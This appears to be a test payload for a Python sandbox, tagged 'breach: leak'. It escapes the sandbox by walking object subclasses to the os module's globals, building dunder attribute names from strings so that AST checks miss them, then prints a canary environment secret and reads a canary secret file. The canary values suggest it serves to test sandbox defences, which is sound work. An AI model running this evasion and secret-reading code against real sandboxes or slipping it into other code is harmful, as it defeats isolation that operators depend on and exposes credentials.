# Same walk, attribute names built at run time so that no AST check sees them.
# breach: leak
u='_'*2
s = getattr(getattr(object, u+'subclasses'+u), u+'call'+u)()
c = [x for x in s if getattr(x,u+'name'+u) == '_wrap_close'][0]
g = getattr(getattr(c,u+'init'+u),u+'globals'+u)
class O: pass
o = O()
o.environ = g['environ']; o.open = g['open']; o.read = g['read']
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
